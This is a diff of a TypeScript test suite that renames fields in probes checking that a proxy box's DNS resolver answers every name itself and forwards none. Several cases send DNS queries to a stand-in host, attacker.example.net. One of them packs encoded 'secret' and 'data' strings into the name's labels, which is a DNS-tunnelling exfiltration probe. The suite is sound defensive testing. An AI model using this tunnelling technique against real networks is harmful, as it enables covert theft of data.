@@ -1,4 +1,4 @@
-import type { DoorAttempt } from '../plan/attempt';
+import type { ProxyAttempt } from '../plan/attempt';
 import { group } from './group';
 
 const EVERY_TYPE = [
@@ -7,37 +7,37 @@ const EVERY_TYPE = [
 const DATA = `${'c2VjcmV0'.repeat(7)}.${'ZGF0YQ'.repeat(9)}`;
 
 /** The mark of the attempt is a label of each name, in lower case as names are. */
-const asked: DoorAttempt['through'] = ({ asked: [first] }) =>
+const asked: ProxyAttempt['through'] = ({ asked: [first] }) =>
   first && `a resolver was asked: ${first.slice(0, 60)}`;
 
 /** Questions to the box's resolver, which answers everything and asks nobody. */
 export const NAMES = group(
   {
     group: 'DNS through the proxy box',
-    invariant: 'NET-3',
-    stops: 'the box answers every name with its own address, and passes none on',
-    weakened: 'names',
+    law: 'NET-3',
+    heldBy: 'the box answers every name with its own address, and passes none on',
+    mustFailIn: ['names'],
     through: asked,
   },
   [
     {
       id: 'N01',
       title: 'data in the labels of a name',
-      steps: ({ own }) => [
+      run: ({ own }) => [
         { probe: { do: 'dns', to: own, name: `${DATA}.@token@.attacker.example.net`, types: [1] } },
       ],
     },
     {
       id: 'N02',
       title: `${EVERY_TYPE.length} question types`,
-      steps: ({ own }) => [
+      run: ({ own }) => [
         { probe: { do: 'dns', to: own, name: '@token@.attacker.example.net', types: EVERY_TYPE } },
       ],
     },
     {
       id: 'N03',
       title: `${EVERY_TYPE.length} question types over TCP`,
-      steps: ({ own }) => [
+      run: ({ own }) => [
         {
           probe: {
             do: 'dns',
@@ -52,9 +52,9 @@ export const NAMES = group(
     {
       id: 'N04',
       title: 'a name that nobody has, over HTTPS, so that the box must look it up',
-      stops: 'no rule names the host: nothing is looked up for it',
-      weakened: 'hosts',
-      steps: ({ own }) => [
+      heldBy: 'no rule names the host: nothing is looked up for it',
+      mustFailIn: ['hosts'],
+      run: ({ own }) => [
         {
           exchange: {
             to: own,
@@ -68,9 +68,9 @@ export const NAMES = group(
     {
       id: 'N05',
       title: 'a name that nobody has, through CONNECT',
-      stops: 'no rule names the host: nothing is looked up for it',
-      weakened: 'hosts',
-      steps: ({ own }) => [
+      heldBy: 'no rule names the host: nothing is looked up for it',
+      mustFailIn: ['hosts'],
+      run: ({ own }) => [
         {
           exchange: {
             to: own,
